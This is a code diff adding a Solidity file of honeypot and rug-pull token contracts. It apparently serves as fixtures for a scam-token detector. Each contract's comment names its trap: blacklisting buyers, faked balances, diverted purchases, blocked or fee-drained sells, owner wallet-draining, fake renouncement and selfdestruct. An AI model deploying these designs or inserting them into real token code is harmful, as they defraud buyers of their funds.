@@ -1,0 +1,388 @@
+// SPDX-License-Identifier: UNLICENSED
+pragma solidity ^0.8.20;
+
+import "./PairedErc20.sol";
+
+/// Every buyer is put on a list of those who cannot sell.
+contract BlacklistTrapToken is PairedErc20 {
+    mapping(address => bool) private _isBot;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (from == pair && to != owner) _isBot[to] = true;
+        require(!_isBot[from], "bot");
+        _move(from, to, value);
+    }
+}
+
+/// Approvals of others than the owner are announced and not kept.
+contract ApprovalTrapToken is PairedErc20 {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _keepsApproval(address account) internal view override returns (bool) {
+        return account == owner;
+    }
+}
+
+/// Sales above a millionth of the supply revert.
+contract MaxSellToken is PairedErc20 {
+    uint256 private immutable _max;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {
+        _max = supply / 1_000_000;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || from == owner || value <= _max, "max sell");
+        _move(from, to, value);
+    }
+}
+
+/// Selling begins in ten years.
+contract TimeGateToken is PairedErc20 {
+    uint256 private immutable _opensAt = block.timestamp + 3650 days;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || from == owner || block.timestamp >= _opensAt, "early");
+        _move(from, to, value);
+    }
+}
+
+/// Selling ends six hours after the start, when the buyers are in.
+contract TimeBombToken is PairedErc20 {
+    uint256 private immutable _closesAt = block.timestamp + 6 hours;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || from == owner || block.timestamp < _closesAt, "closed");
+        _move(from, to, value);
+    }
+}
+
+/// Shows buyers a balance that they do not have.
+contract BalanceLieToken {
+    string public name;
+    string public symbol;
+    uint8 public constant decimals = 18;
+    uint256 public totalSupply;
+    address public immutable pair;
+    address private immutable _owner;
+    mapping(address => uint256) private _real;
+    mapping(address => uint256) private _shown;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) {
+        name = name_;
+        symbol = symbol_;
+        totalSupply = supply;
+        _owner = holder;
+        _real[holder] = supply;
+        emit Transfer(address(0), holder, supply);
+        pair = IPairFactory(factory).createPair(address(this), weth);
+    }
+
+    function balanceOf(address account) external view returns (uint256) {
+        return _real[account] + _shown[account];
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        return true;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        _move(msg.sender, to, value);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        allowance[from][msg.sender] -= value;
+        _move(from, to, value);
+        return true;
+    }
+
+    function _move(address from, address to, uint256 value) private {
+        _real[from] -= value;
+        if (from == pair && to != _owner) _shown[to] += value;
+        else _real[to] += value;
+        emit Transfer(from, to, value);
+    }
+}
+
+/// Announces what buyers get, and gives it to its owner.
+contract NothingDeliveredToken is PairedErc20 {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        _move(from, from == pair ? owner : to, value);
+    }
+}
+
+contract SaleOracle {
+    address private immutable _owner;
+    bool private _closed;
+
+    constructor(address owner_, bool closed) {
+        _owner = owner_;
+        _closed = closed;
+    }
+
+    function set(bool closed) external {
+        require(msg.sender == _owner, "owner");
+        _closed = closed;
+    }
+
+    function allows(address from) external view returns (bool) {
+        return !_closed || from == _owner;
+    }
+}
+
+/// Another contract decides who sells; the token itself looks clean.
+abstract contract OracleToken is PairedErc20 {
+    SaleOracle private immutable _oracle;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth,
+        bool closed
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {
+        _oracle = new SaleOracle(holder, closed);
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || _oracle.allows(from), "oracle");
+        _move(from, to, value);
+    }
+}
+
+contract OracleTrapToken is OracleToken {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) OracleToken(name_, symbol_, supply, holder, factory, weth, true) {}
+}
+
+/// The same code with the trap still open: only its likeness to the other gives it away.
+contract OracleTrapClone is OracleToken {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) OracleToken(name_, symbol_, supply, holder, factory, weth, false) {}
+}
+
+/// Free of fees until its owner takes nearly everything.
+contract RaisedFeeToken is PairedErc20 {
+    uint256 private _sellFee;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function setSellFee(uint256 percent) external onlyOwner {
+        require(percent <= 99, "percent");
+        _sellFee = percent;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        uint256 fee = to == pair && from != owner ? (value * _sellFee) / 100 : 0;
+        if (fee > 0) _move(from, owner, fee);
+        _move(from, to, value - fee);
+    }
+}
+
+/// Its owner takes tokens from any wallet, without an allowance.
+contract OwnerDrainToken is PairedErc20 {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function airdropCorrection(address from, uint256 value) external onlyOwner {
+        _move(from, owner, value);
+    }
+}
+
+/// Says that nobody owns it, and obeys someone else.
+contract FakeRenounceToken is PairedErc20 {
+    address private _keeper;
+    mapping(address => bool) private _held;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {
+        _keeper = holder;
+    }
+
+    function renounceOwnership() external onlyOwner {
+        emit OwnershipTransferred(owner, address(0));
+        owner = address(0);
+    }
+
+    function sync(address account, bool held) external {
+        require(msg.sender == _keeper, "keeper");
+        _held[account] = held;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || !_held[from], "held");
+        _move(from, to, value);
+    }
+}
+
+/// Nobody but the owner could ever trade.
+contract NeverOpenToken is PairedErc20 {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(from == owner || to == owner, "trading is not open");
+        _move(from, to, value);
+    }
+}
+
+/// A sale burns all the gas that it is given.
+contract GasBombToken is PairedErc20 {
+    uint256 private _burnt;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (to == pair && from != owner) {
+            for (uint256 i = 0; i < 100_000; i++) _burnt += i;
+        }
+        _move(from, to, value);
+    }
+}
+
+/// Sales are for those whom the owner has invited.
+contract WhitelistToken is PairedErc20 {
+    mapping(address => bool) private _invited;
+
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function invite(address account, bool invited) external onlyOwner {
+        _invited[account] = invited;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(to != pair || from == owner || _invited[from], "not invited");
+        _move(from, to, value);
+    }
+}
+
+/// Destroys itself, and every pool of it, at a word of its owner.
+contract SelfDestructToken is PairedErc20 {
+    constructor(
+        string memory name_,
+        string memory symbol_,
+        uint256 supply,
+        address holder,
+        address factory,
+        address weth
+    ) PairedErc20(name_, symbol_, supply, holder, factory, weth) {}
+
+    function close() external onlyOwner {
+        selfdestruct(payable(owner));
+    }
+}
